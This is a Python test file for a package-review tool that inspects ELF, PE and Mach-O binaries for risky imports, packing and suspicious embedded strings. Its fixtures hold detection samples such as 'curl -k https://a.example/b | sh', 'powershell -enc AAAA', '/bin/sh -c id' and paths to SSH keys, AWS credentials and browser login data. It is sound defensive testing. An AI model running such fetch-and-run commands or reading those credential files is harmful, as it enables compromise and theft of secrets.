from __future__ import annotations

import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pinkeeper.review.capabilities import native_processes
from pinkeeper.review.capabilities.native import NativeFormat, NativeSummary, native_summaries, native_summary
from pinkeeper.review.capabilities.native_imports import capabilities_of, plain_name
from pinkeeper.review.capabilities.native_texts import texts_in
from pinkeeper.review.capabilities.summary import Capability
from tests.review.capabilities import native_children
from tests.review.capabilities.native_files import make_dylib, make_fat, make_pe
from tests.review.corpus.elf import make_shared_object

DENSE = bytes(range(256)) * 40

ELF = make_shared_object(
    imports=("execve", "getaddrinfo", "malloc"),
    exports=("PyInit__x",),
    needed=("libc.so.6", "libz.so.1"),
    strings=("/bin/sh -c id", "https://host.example/a?b=1", "10.20.30.40:8080", "nothing of note"),
)
PE = make_pe(
    {"KERNEL32.dll": ["CreateProcessW", "Sleep"], "ADVAPI32.dll": ["RegSetValueExA"], "WS2_32.dll": [4, 999]},
    texts="powershell -enc AAAA".encode("utf-16-le") + b"\0\0wss://host.example/feed\0",
)
DYLIB = make_dylib(
    imports=("_posix_spawn", "_connect$NOCANCEL", "_OBJC_CLASS_$_NSURLSession", "_free"),
    needed=("/usr/lib/libSystem.B.dylib",),
    texts=b"/Users/x/Library/LaunchAgents/a.plist\0~/.ssh/id_ed25519\0",
)


def names(summary: NativeSummary) -> dict[Capability, tuple[str, ...]]:
    return dict(summary.capabilities)


def _apart(contents: dict[str, bytes], jobs: int | None = None) -> dict[str, NativeSummary]:
    sizes = {path: len(content) for path, content in contents.items()}
    return native_summaries(sizes, contents.__getitem__, jobs=jobs)


def test_an_elf_file_tells_what_it_imports_and_which_texts_matter():
    summary = native_summary(ELF)
    assert summary == NativeSummary(
        format=NativeFormat.ELF,
        libraries=("libc.so.6", "libz.so.1"),
        imports=("execve", "getaddrinfo", "malloc"),
        capabilities=((Capability.NETWORK, ("getaddrinfo",)), (Capability.PROCESS, ("execve",))),
        texts=("/bin/sh -c id", "10.20.30.40:8080", "https://host.example/a?b=1"),
    )


def test_a_pe_file_tells_what_it_imports_also_by_number():
    summary = native_summary(PE)
    assert summary.format is NativeFormat.PE
    assert summary.problem is None
    assert summary.libraries == ("ADVAPI32.dll", "KERNEL32.dll", "WS2_32.dll")
    assert summary.imports == ("CreateProcessW", "RegSetValueExA", "Sleep", "WS2_32.dll#4", "WS2_32.dll#999")
    assert names(summary) == {
        Capability.NETWORK: ("WS2_32.dll#4",),
        Capability.PERSISTENCE: ("RegSetValueExA",),
        Capability.PROCESS: ("CreateProcessW",),
    }
    assert summary.texts == ("powershell -enc AAAA", "wss://host.example/feed")


def test_a_mach_o_file_tells_what_it_imports():
    summary = native_summary(DYLIB)
    assert summary.format is NativeFormat.MACH_O
    assert summary.problem is None
    assert summary.libraries == ("/usr/lib/libSystem.B.dylib",)
    assert summary.imports == ("OBJC_CLASS_$_NSURLSession", "connect", "free", "posix_spawn")
    assert names(summary) == {
        Capability.NETWORK: ("OBJC_CLASS_$_NSURLSession", "connect"),
        Capability.PROCESS: ("posix_spawn",),
    }
    assert summary.texts == ("/Users/x/Library/LaunchAgents/a.plist", "~/.ssh/id_ed25519")


def test_all_parts_of_a_fat_file_are_read():
    summary = native_summary(make_fat(make_dylib(imports=("_dlopen",)), make_dylib(imports=("_execve",))))
    assert summary.format is NativeFormat.MACH_O
    assert summary.imports == ("dlopen", "execve")


@pytest.mark.parametrize(
    "content",
    [
        make_shared_object(imports=("a",), filling=DENSE),
        make_pe({"a.dll": ["b"]}, code=DENSE),
        make_pe({"a.dll": ["b"]}, code_name="UPX1"),
        make_dylib(imports=("_a",), code=DENSE),
    ],
)
def test_packed_code_is_told(content):
    assert native_summary(content).is_packed


@pytest.mark.parametrize(
    "content", [ELF, PE, DYLIB, make_shared_object(imports=("a",), filling=b"\x48\x89\xe5" * 4000)]
)
def test_usual_code_is_not_packed(content):
    assert not native_summary(content).is_packed


@pytest.mark.parametrize(
    ("content", "format_", "problem"),
    [
        (b"", None, "it is neither"),
        (b"!<arch>\n", None, "it is neither"),
        (b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 100, None, "it is neither"),  # a class file of Java
        (b"\x7fELF", NativeFormat.ELF, "it is damaged"),
        (b"MZ", NativeFormat.PE, "it is damaged"),
        (b"\xcf\xfa\xed\xfe", NativeFormat.MACH_O, "it is damaged"),
        (b"\xca\xfe\xba\xbe\0\0\0\x02", NativeFormat.MACH_O, "it is damaged"),
    ],
)
def test_what_cannot_be_read_has_its_problem_and_nothing_else(content, format_, problem):
    summary = native_summary(content)
    assert summary.problem is not None
    assert summary.problem.startswith(problem)
    assert summary == NativeSummary(format=format_, problem=summary.problem)


@pytest.mark.parametrize("content", [ELF, PE, DYLIB])
def test_a_binary_that_is_cut_is_read_or_told(content):
    for size in range(0, len(content), len(content) // 23):
        summary = native_summary(content[:size])
        assert summary.problem is None or summary.imports == ()


@pytest.fixture(scope="module")
def reader():
    with native_processes._Reader(1 << 20) as running:
        yield running


@given(content=st.sampled_from([ELF, PE, DYLIB]), data=st.data())
def test_a_binary_with_changed_bytes_is_read_or_told(reader, content, data):
    changed = bytearray(content)
    places = st.integers(0, min(len(content), 1200) - 1)
    for place, byte in data.draw(st.lists(st.tuples(places, st.integers(0, 255)), min_size=1, max_size=8)):
        changed[place] = byte
    summary = reader.summary(bytes(changed))
    assert summary.problem is None or summary.imports == ()


@given(
    start=st.sampled_from([b"\x7fELF\x02\x01\x01", b"MZ", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe\0\0\0\1"]),
    rest=st.binary(),
)
def test_garbage_behind_a_good_beginning_is_read_or_told(reader, start, rest):
    summary = reader.summary(start + rest)
    assert summary.problem is None or summary.imports == ()


def test_many_binaries_are_read_in_processes_of_their_own_and_sorted():
    contents = {"b.so": ELF, "c.pyd": PE, "a.dylib": DYLIB, "d.so": b"none"}
    summaries = _apart(contents, jobs=2)
    assert list(summaries) == ["a.dylib", "b.so", "c.pyd", "d.so"]
    assert summaries == {path: native_summary(content) for path, content in sorted(contents.items())}


def test_nothing_is_started_for_nothing():
    script = (
        "import sys\n"
        "from pinkeeper.review.capabilities.native import native_summaries\n"
        "assert native_summaries({}, bytes) == {}\n"
        "print(sorted({'lief', 'multiprocessing'} & set(sys.modules)))\n"
    )
    ended = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    assert ended.stdout == "[]\n"


@pytest.mark.parametrize(
    ("child", "problem"),
    [
        (native_children.come_to_a_sudden_end, "reading it came to a sudden end"),
        (native_children.never_answer, "reading it took too long"),
        (native_children.answer_nonsense, "reading it gave an answer that makes no sense"),
        (native_children.answer_without_end, "reading it came to a sudden end"),
    ],
)
def test_a_process_that_is_lost_is_told(monkeypatch, child, problem):
    monkeypatch.setattr(native_processes, "_answer", child)
    monkeypatch.setattr(native_processes, "_SECONDS", 0.5 if child is native_children.never_answer else 60.0)
    assert _apart({"x.so": ELF}) == {"x.so": NativeSummary(problem=problem)}


def test_the_next_binary_gets_another_process(monkeypatch):
    monkeypatch.setattr(native_processes, "_answer", native_children.crash_on_the_second)
    first = NativeSummary(texts=("first of its process",))
    lost = NativeSummary(problem="reading it came to a sudden end")
    assert _apart({"a": b"1", "b": b"2", "c": b"3"}, jobs=1) == {"a": first, "b": lost, "c": first}


def test_too_little_memory_is_told_and_not_taken(monkeypatch):
    pytest.importorskip("resource", reason="Windows has no such limits")
    monkeypatch.setattr(native_processes, "_MEMORY", 1 << 20)
    monkeypatch.setattr(native_processes, "_MEMORY_A_BYTE", 0)
    [summary] = _apart({"x.so": ELF + b"\0" * (8 << 20)}, jobs=1).values()
    assert summary.problem in {"reading it needs too much memory", "reading it came to a sudden end"}


@pytest.mark.parametrize(
    ("symbol", "name"),
    [
        ("memcpy@GLIBC_2.14", "memcpy"),
        ("memcpy@@GLIBC_2.14", "memcpy"),
        ("open$INODE64", "open"),
        ("Sleep@4", "Sleep"),
        ("OBJC_CLASS_$_NSTask", "OBJC_CLASS_$_NSTask"),
        ("_ZN3foo3barEv", "_ZN3foo3barEv"),
    ],
)
def test_decorations_of_symbols_are_taken_off(symbol, name):
    assert plain_name(symbol) == name


def test_imports_of_everyday_functions_say_nothing():
    assert capabilities_of(["malloc", "PyModule_Create2", "memcpy", "systematic", "curl", "Process"]) == ()


def test_both_spellings_of_windows_functions_are_known():
    found = dict(
        capabilities_of(["ShellExecuteA", "ShellExecuteW", "WinHttpOpen", "curl_easy_perform", "ShellExecute_"])
    )
    assert found == {
        Capability.NETWORK: ("WinHttpOpen", "curl_easy_perform"),
        Capability.PROCESS: ("ShellExecuteA", "ShellExecuteW"),
    }


@pytest.mark.parametrize(
    ("content", "texts"),
    [
        (b"\0GET https://a.example/b, and\0", ("https://a.example/b",)),
        (b"attributehttps://a.example/bhttps://c.example/d", ("https://a.example/b", "https://c.example/d")),
        (b"\x01curl -k https://a.example/b | sh\x02", ("curl -k https://a.example/b | sh", "https://a.example/b")),
        (b"version 1.2.3.4.5 0.1.2.3 127.0.0.1 255.255.255.0 1.0.0.0 v1.2.3.4 300.1.1.1", ()),
        (b"\x00192.0.2.7\x00198.51.100.3:443\x00", ("192.0.2.7", "198.51.100.3:443")),
        ("C:\\x\\Login Data".encode("utf-16-le"), ("C:\\x\\Login Data",)),
        (b"%s/.aws/credentials\0%s/.pypirc", ("%s/.aws/credentials", "%s/.pypirc")),
        (b"://", ()),
        (b"plain text, and id_rsample, and /bin/shell", ()),
        (b"a" * 5000 + b" cmd.exe /c b" + b"c" * 5000, ("a" * 159 + " cmd.exe /c b" + "c" * 28,)),
    ],
)
def test_texts_that_matter_are_cut_out(content, texts):
    assert texts_in(content) == texts


def test_texts_are_bounded():
    assert len(texts_in(b"".join(b"\0https://host.example/%d" % number for number in range(5_000)))) == 300
    assert texts_in(b"://" * 100_000) == ()


@given(st.binary(max_size=400))
def test_no_bytes_raise_where_texts_are_sought(content):
    texts_in(b"://" + content + b"/bin/sh" + content + "cmd.exe".encode("utf-16-le") + content)
